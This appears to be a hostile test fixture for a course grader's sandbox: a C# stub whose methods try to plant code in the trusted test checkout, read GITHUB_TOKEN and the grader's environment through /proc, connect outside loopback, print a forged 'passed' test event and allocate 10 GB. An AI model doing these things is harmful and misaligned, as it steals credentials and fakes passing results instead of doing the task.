// Attacks at run time, through APIs the gate allows (files, sockets, memory), each of which the
// sandbox must stop. Every method ends as the stub does, so a stopped attack earns nothing:
// - write into the trusted checkout (to plant a pass-all test for the next grading);
// - read the grader's environment through /proc;
// - open a connection to an address outside loopback (192.0.2.1, TEST-NET-1: reserved, never routed);
// - print forged event lines on the console;
// - allocate 10 GB.
using System.Net;
using System.Net.Sockets;

namespace NetCourse.Lesson01;

public static class Ports
{
    public static bool IsValid(int port)
    {
        Try("plant", () => File.AppendAllText("@@TRUSTED_ROOT@@/lessons/lesson01-demo/tests/PortsTests.cs", "// planted\n"));
        Try("canary", () => File.WriteAllText("@@TRUSTED_ROOT@@/attack-canary.txt", "written from the sandbox"));
        Try("environ", () =>
        {
            var variables = File.ReadAllText("/proc/self/environ").Split('\0');
            var token = variables.FirstOrDefault(v => v.StartsWith("GITHUB_TOKEN=", StringComparison.Ordinal));
            if (token is null) throw new KeyNotFoundException("no GITHUB_TOKEN in this process's environment");
            Console.WriteLine("stolen: " + token);
        });
        Try("grader-environ", () => Console.WriteLine("stolen: " + File.ReadAllText($"/proc/{Environment.ProcessId - 1}/environ")));
        Try("connect", () =>
        {
            using var socket = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
            socket.ConnectAsync(new IPEndPoint(IPAddress.Parse("192.0.2.1"), 80)).Wait(TimeSpan.FromSeconds(3));
        });
        Console.WriteLine("{\"type\":\"end\",\"id\":\"NetCourse.Lesson01.Tests.PortsTests.IsValid_accepts_port_80\",\"outcome\":\"passed\"}");
        throw new NotImplementedException("Task 1: say whether port is between 1 and 65535.");
    }

    public static int Parse(string text)
    {
        var hoard = new List<byte[]>();
        Try("allocate", () => { for (var i = 0; i < 10; i++) hoard.Add(GC.AllocateUninitializedArray<byte>(1 << 30)); });
        throw new NotImplementedException("Task 2: parse a decimal port and check its range.");
    }

    private static void Try(string what, Action attack)
    {
        try { attack(); Console.WriteLine($"{what}: done"); }
        catch (Exception e) { Console.WriteLine($"{what}: failed: {e.GetBaseException().GetType().Name}: {e.GetBaseException().Message}"); }
    }
}
